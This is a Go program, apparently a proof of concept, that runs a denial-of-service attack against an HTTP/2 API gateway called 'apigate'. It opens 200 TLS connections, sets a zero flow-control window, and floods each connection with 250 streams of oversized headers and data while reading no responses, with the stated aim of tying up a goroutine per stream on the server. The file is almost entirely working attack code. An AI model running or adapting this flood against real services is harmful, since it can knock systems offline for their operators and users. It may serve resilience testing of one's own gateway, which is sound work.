package main

import (
	"crypto/tls"
	"encoding/binary"
	"fmt"
	"sync"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"

	"bytes"
)

// It opens every stream that HTTP/2 allows and reads no answer: each costs apigate a goroutine.
func main() {
	connect()
	go touch()
	time.Sleep(500 * time.Millisecond)
	var all sync.WaitGroup
	for range 200 {
		all.Go(func() {
			if err := flood(); err != nil {
				fmt.Println("flood:", err)
			}
		})
	}
	all.Wait()
	fmt.Println("FLOODED")
	time.Sleep(time.Hour)
}

func flood() error {
	raw, err := tls.Dial("tcp", gateURL[len("https://"):], &tls.Config{RootCAs: roots, NextProtos: []string{"h2"}})
	if err != nil {
		return err
	}
	_ = raw.SetDeadline(time.Now().Add(10 * time.Second))
	if _, err := raw.Write([]byte(http2.ClientPreface)); err != nil {
		return err
	}
	framer := http2.NewFramer(raw, raw)
	if err := framer.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0}); err != nil {
		return err
	}
	var head bytes.Buffer
	encoder := hpack.NewEncoder(&head)
	for _, field := range [][2]string{
		{":method", "POST"}, {":path", records}, {":scheme", "https"}, {":authority", "x"},
		{"authorization", "Bearer " + gateToken}, {"filler", fmt.Sprintf("%06000d", 1)},
	} {
		_ = encoder.WriteField(hpack.HeaderField{Name: field[0], Value: field[1]})
	}
	body := make([]byte, 16<<10)
	binary.BigEndian.PutUint64(body, 1)
	for n := range uint32(250) {
		id := 2*n + 1
		if err := framer.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: head.Bytes(), EndHeaders: true}); err != nil {
			return err
		}
		if err := framer.WriteData(id, false, body); err != nil {
			return err
		}
	}
	time.Sleep(8 * time.Second)
	return nil
}
